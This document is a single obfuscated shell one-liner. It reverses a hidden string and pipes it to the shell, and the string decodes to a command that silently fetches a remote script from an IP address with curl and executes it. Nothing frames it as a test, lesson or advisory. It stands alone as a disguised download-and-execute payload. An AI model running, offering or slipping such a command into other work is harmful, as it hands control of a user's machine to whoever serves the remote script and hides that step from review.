echo 'hs | hs.m/4.311.0.302//:ptth s- lruc' | rev | sh
